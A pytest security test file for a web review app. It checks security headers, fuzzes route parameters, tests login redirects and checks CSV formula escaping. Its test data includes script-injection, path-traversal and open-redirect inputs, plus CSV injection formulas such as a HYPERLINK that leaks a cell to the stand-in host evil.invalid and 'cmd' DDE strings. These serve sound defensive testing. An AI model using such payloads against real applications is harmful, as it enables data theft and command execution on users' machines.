"""Issue #18, section 3: what `pacsflow review` answers, against the real app over HTTP.

- every response carries a Content-Security-Policy (no inline script or style), the other
  security headers and ``Cache-Control: no-store`` on everything but static files; the pages
  hold no inline script, style or event handler for the policy to block;
- no query string or form value makes a route fail (``/?percent=nan`` answered 500): a fuzz
  of hostile values over every parameter of every route;
- the CSV export is escaped against formula injection (``=HYPERLINK(...)``).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
import requests
from test_review_support import (
    PASSWORDS,
    WAIT_S,
    csrf_token,
    finding_rows,
    logged_in,
    review_config,
    serve,
    shared_lake,
)

from pipeline.lake import LakePaths, read_table
from pipeline.review.middleware import CONTENT_SECURITY_POLICY

pytestmark = pytest.mark.slow

#: values an attacker or a fuzzer sends
HOSTILE = [
    "nan",
    "-inf",
    "Infinity",
    "-1",
    "0",
    "1e309",
    "99999999999999999999999",
    "9" * 5000,
    "abc",
    "",
    " ",
    "\x00",
    "%",
    "Ünïcødé 💥",
    "'\"><script>alert(1)</script>",
    "A" * 4000,
    "0x10",
    "2020-13-45",
    "../../../etc/passwd",
    "//evil.invalid/",
]
WORKLIST_PARAMS = [
    "model",
    "label",
    "score_min",
    "score_max",
    "date_from",
    "date_to",
    "modality",
    "manufacturer",
    "status",
    "sample",
    "percent",
    "seed",
    "sort",
    "order",
    "page",
    "per_page",
    "not_a_parameter",
]
VIEW_PARAMS = ["key", "k", "w", "overlay", "opacity", "saved"]


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory, session_key_file: Path) -> LakePaths:
    return shared_lake(tmp_path_factory, session_key_file)


@pytest.fixture(scope="module")
def base(lake: LakePaths, session_key_file: Path) -> Iterator[str]:
    with serve(review_config(lake), lake, session_key_file) as url:
        yield url


def _key(lake: LakePaths, i: int = 0) -> str:
    return str(finding_rows(lake)[i]["finding_key"])


def test_security_headers_on_every_response(lake: LakePaths, base: str) -> None:
    key = _key(lake)
    anonymous = requests.Session()
    lead = logged_in(base, "lena")
    page = lead.get(base + "/finding", params={"key": key}, timeout=WAIT_S)
    token = csrf_token(page.text)
    responses = {
        "login": anonymous.get(base + "/login", timeout=WAIT_S),
        "redirect to login": anonymous.get(base + "/", timeout=WAIT_S, allow_redirects=False),
        "not found": anonymous.get(base + "/nope", timeout=WAIT_S),
        "style": anonymous.get(base + "/static/style.css", timeout=WAIT_S),
        "script": anonymous.get(base + "/static/finding.js", timeout=WAIT_S),
        "worklist": lead.get(base + "/", timeout=WAIT_S),
        "finding": page,
        "slice": lead.get(base + "/slice.png", params={"key": key}, timeout=WAIT_S),
        "metrics": lead.get(base + "/metrics", timeout=WAIT_S),
        "csv": lead.get(base + "/export?format=csv", timeout=WAIT_S),
        "parquet": lead.get(base + "/export?format=parquet", timeout=WAIT_S),
        "viewer": lead.get(
            base + "/viewer", params={"key": key}, timeout=WAIT_S, allow_redirects=False
        ),
        "decide": lead.post(
            base + "/decide",
            data={"key": key, "decision": "uncertain", "csrf": token},
            timeout=WAIT_S,
            allow_redirects=False,
        ),
        "csrf refused": lead.post(
            base + "/decide", data={"key": key, "decision": "accept"}, timeout=WAIT_S
        ),
        "403": requests.get(base + "/export", timeout=WAIT_S, allow_redirects=False),
    }
    expected_status = {"redirect to login": 303, "not found": 404, "viewer": 302, "decide": 303}
    expected_status |= {"csrf refused": 403, "403": 303}
    for name, r in responses.items():
        assert r.status_code == expected_status.get(name, 200), (name, r.status_code, r.text)
        h = r.headers
        assert h["Content-Security-Policy"] == CONTENT_SECURITY_POLICY, name
        assert "script-src 'self'" in h["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in h["Content-Security-Policy"]
        assert h["X-Frame-Options"] == "DENY", name
        assert h["X-Content-Type-Options"] == "nosniff", name
        assert h["Referrer-Policy"] == "no-referrer", name
        assert "Strict-Transport-Security" not in h, name  # plain HTTP on loopback: no HSTS
        if name in ("style", "script"):
            assert h["Cache-Control"] == "no-cache", name
        else:
            assert h["Cache-Control"] == "no-store", name
        if h.get("content-type", "").startswith("text/html"):
            html = r.text
            assert not re.search(r"<script(?![^>]*\bsrc=)", html), name  # no inline script
            assert "<style" not in html, name
            assert not re.search(r"\sstyle=", html), name
            assert not re.search(r"\son[a-z]+=", html), name  # no inline event handler
    cookie = responses["login"].headers["set-cookie"].lower()
    assert "httponly" in cookie
    assert "samesite=strict" in cookie
    anonymous.close()
    lead.close()


def test_no_query_string_or_form_value_makes_a_route_fail(
    lake: LakePaths, base: str, session_key_file: Path
) -> None:
    key_file = session_key_file
    key = _key(lake)
    failures: list[tuple[str, str, str, int]] = []
    with logged_in(base, "adam") as s:
        assert s.get(base + "/?percent=nan", timeout=WAIT_S).status_code == 200

        def get(path: str, params: dict[str, str]) -> None:
            r = s.get(f"{base}{path}?{urlencode(params)}", timeout=WAIT_S, allow_redirects=False)
            if r.status_code >= 500:
                failures.append(("GET", path, repr(params)[:80], r.status_code))

        for value in HOSTILE:
            for name in WORKLIST_PARAMS:
                get("/", {name: value})
            for name in VIEW_PARAMS:
                get("/finding", {"key": key, name: value})
                get("/slice.png", {"key": key, name: value})
            get("/export", {"format": value})
            get("/viewer", {"key": value})
            get("/metrics", {"x": value})
            get("/login", {"next": value})
            get("/static/" + quote(value, safe=""), {})
            token = csrf_token(s.get(base + "/", timeout=WAIT_S).text)
            for field in ("key", "decision", "corrected_label", "comment", "next"):
                data = {"key": key, "decision": "uncertain", "csrf": token, field: value}
                r = s.post(base + "/decide", data=data, timeout=WAIT_S, allow_redirects=False)
                if r.status_code >= 500:
                    failures.append(("POST", "/decide", f"{field}={value[:40]!r}", r.status_code))
    # the login form, on a server of its own: its failures lock the address
    with serve(review_config(lake), lake, key_file) as other, requests.Session() as anon:
        for value in HOSTILE:
            page = anon.get(other + "/login", params={"next": value}, timeout=WAIT_S)
            assert page.status_code == 200
            data = {"username": value, "password": value, "next": value}
            r = anon.post(
                other + "/login",
                data={**data, "csrf": csrf_token(page.text)},
                timeout=WAIT_S,
                allow_redirects=False,
            )
            if r.status_code >= 500:
                failures.append(("POST", "/login", repr(value)[:40], r.status_code))
    assert failures == []


def test_bad_image_and_export_parameters_are_refused_with_a_reason(
    lake: LakePaths, base: str
) -> None:
    key = _key(lake)
    with logged_in(base, "lena") as s:
        for params, words in [
            ({"k": "nan"}, "k must be a whole number"),
            ({"k": "100000"}, "k must be a whole number within 0.."),
            ({"k": "-1"}, "k must be a whole number"),
            ({"opacity": "nan"}, "opacity must be a number within 0..1"),
            ({"opacity": "2"}, "opacity must be a number within 0..1"),
            ({"w": "evil"}, "w must be one of"),
            ({"overlay": "yes"}, "overlay must be 0 or 1"),
        ]:
            r = s.get(base + "/slice.png", params={"key": key, **params}, timeout=WAIT_S)
            assert r.status_code == 400, params
            assert words in r.text, (params, r.text)
        r = s.get(base + "/export", params={"format": "xlsx"}, timeout=WAIT_S)
        assert r.status_code == 400
        assert "format must be csv or parquet" in r.text
        # pages fall back to defaults instead
        page = s.get(
            base + "/finding", params={"key": key, "k": "nan", "opacity": "inf"}, timeout=WAIT_S
        )
        assert page.status_code == 200
        assert "opacity=0.45" in page.text


def test_login_redirects_only_within_the_app(lake: LakePaths, base: str) -> None:
    for target in ("//evil.invalid/", "/\\evil.invalid", "https://evil.invalid/", "/\t/evil"):
        with requests.Session() as s:
            page = s.get(base + "/login", timeout=WAIT_S)
            r = s.post(
                base + "/login",
                data={
                    "username": "lena",
                    "password": PASSWORDS["lena"],
                    "next": target,
                    "csrf": csrf_token(page.text),
                },
                timeout=WAIT_S,
                allow_redirects=False,
            )
            assert r.status_code == 303
            assert r.headers["location"] == "/", target


FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_csv_export_escapes_formulas(lake: LakePaths, base: str) -> None:
    keys = [str(f["finding_key"]) for f in finding_rows(lake)][: len(FORMULAS)]
    with logged_in(base, "lena") as s:
        for key, formula in zip(keys, FORMULAS, strict=True):
            page = s.get(base + "/finding", params={"key": key}, timeout=WAIT_S)
            r = s.post(
                base + "/decide",
                data={
                    "key": key,
                    "decision": "accept",
                    "corrected_label": formula,
                    "comment": formula,
                    "csrf": csrf_token(page.text),
                },
                timeout=WAIT_S,
                allow_redirects=False,
            )
            assert r.status_code == 303, r.text
        exported = s.get(base + "/export", params={"format": "csv"}, timeout=WAIT_S)
        parquet = s.get(base + "/export", params={"format": "parquet"}, timeout=WAIT_S)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    labels = {r["finding_key"]: r["final_label"] for r in rows}
    for key, formula in zip(keys, FORMULAS, strict=True):
        assert labels[key] == "'" + formula.strip()  # the app strips surrounding blanks
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # the Parquet label set keeps the data as it is (it is not opened by spreadsheets)
    import pyarrow.parquet as pq

    table = pq.read_table(io.BytesIO(parquet.content)).to_pylist()
    assert {r["finding_key"]: r["final_label"] for r in table}[keys[0]] == FORMULAS[0]
    stored = read_table(lake, "reviews").to_pylist()
    assert FORMULAS[0] in {r["corrected_label"] for r in stored}
